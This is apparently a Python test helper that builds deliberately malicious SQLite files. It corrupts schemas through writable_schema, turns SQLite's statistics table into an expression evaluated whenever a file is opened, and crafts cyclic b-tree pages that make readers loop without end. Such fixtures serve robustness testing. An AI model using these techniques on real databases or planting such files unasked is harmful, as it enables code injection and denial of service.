"""Workshop files that somebody made to do harm."""

from __future__ import annotations

import sqlite3
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path

PAGE = 4096
_INNER = 5


def changed(path: Path, *statements: str, strict: bool = True) -> None:
    """Run statements on a file; without `strict`, columns take any value meanwhile."""
    with closing(sqlite3.connect(path, isolation_level=None)) as other:
        other.execute("PRAGMA synchronous = OFF")
        loosened = [] if strict else _loosen(other)
        for statement in statements:
            other.execute(statement)
        _put_back(other, loosened)


def _loosen(other: sqlite3.Connection) -> list[tuple[str, str]]:
    found = other.execute("SELECT name, sql FROM sqlite_schema WHERE sql LIKE '%STRICT'").fetchall()
    loose = [
        (
            name,
            sql.removesuffix(" STRICT").replace(" TEXT", "").replace(" INTEGER", "").replace(" NOT NULL", ""),
        )
        for name, sql in found
    ]
    _put_back(other, loose)
    return found


def _put_back(other: sqlite3.Connection, tables: Sequence[tuple[str, str]]) -> None:
    if tables:
        other.execute("PRAGMA writable_schema = ON")
        other.executemany(
            "UPDATE sqlite_schema SET sql = ? WHERE name = ?", [(sql, name) for name, sql in tables]
        )
        other.execute("PRAGMA writable_schema = RESET")


def reworded(path: Path, name: str, old: str, new: str) -> None:
    """Change the statement that made a table or index, and leave its pages as they are."""
    with closing(sqlite3.connect(path, isolation_level=None)) as other:
        (sql,) = other.execute("SELECT sql FROM sqlite_schema WHERE name = ?", (name,)).fetchone()
        assert old in sql
        other.execute("PRAGMA writable_schema = ON")
        other.execute("UPDATE sqlite_schema SET sql = ? WHERE name = ?", (sql.replace(old, new, 1), name))


def computed_statistics(path: Path, expression: str) -> None:
    """A column of SQLite's own statistics, which it reads whenever it opens a file, is an expression."""
    changed(path, "ANALYZE")
    reworded(path, "sqlite_stat1", "(tbl,idx,stat)", f"(tbl,idx,other,stat AS ({expression}))")


def endless(path: Path, table: str = "cards", levels: int = 8) -> None:
    """The tree of a table goes through the same pages again and again: more rows than there is time for."""
    with closing(sqlite3.connect(path)) as other:
        found = other.execute("SELECT rootpage FROM sqlite_schema WHERE name = ?", (table,)).fetchone()
    root = found[0] if found else 1
    file = bytearray(path.read_bytes())
    start = 100 if root == 1 else 0
    leaf = file[(root - 1) * PAGE : root * PAGE]
    if start:
        _moved_down(leaf)
    pages = [bytes(leaf)]
    first = len(file) // PAGE + 1
    pages += [_circle(first + level) for level in range(levels)]
    top = bytearray(_circle(first + levels, start))
    top[:start] = file[:start]
    file[(root - 1) * PAGE : root * PAGE] = top
    file += b"".join(pages)
    file[28:32] = (len(file) // PAGE).to_bytes(4, "big")
    path.write_bytes(file)


def _moved_down(leaf: bytearray) -> None:
    """The first page of a file as any other: its list of cells begins 100 bytes earlier."""
    count = int.from_bytes(leaf[103:105], "big")
    leaf[: 8 + 2 * count] = leaf[100 : 108 + 2 * count]


def _circle(child: int, start: int = 0) -> bytes:
    """An inner page all of whose places lead to one page."""
    count = 300
    page = bytearray(PAGE)
    first = PAGE - 5 * count
    page[start : start + 12] = bytes(
        [_INNER, 0, 0, *count.to_bytes(2, "big"), *first.to_bytes(2, "big"), 0]
    ) + (child.to_bytes(4, "big"))
    for n in range(count):
        place = first + 5 * n
        page[start + 12 + 2 * n : start + 14 + 2 * n] = place.to_bytes(2, "big")
        page[place : place + 5] = child.to_bytes(4, "big") + bytes([n % 128])
    return bytes(page)
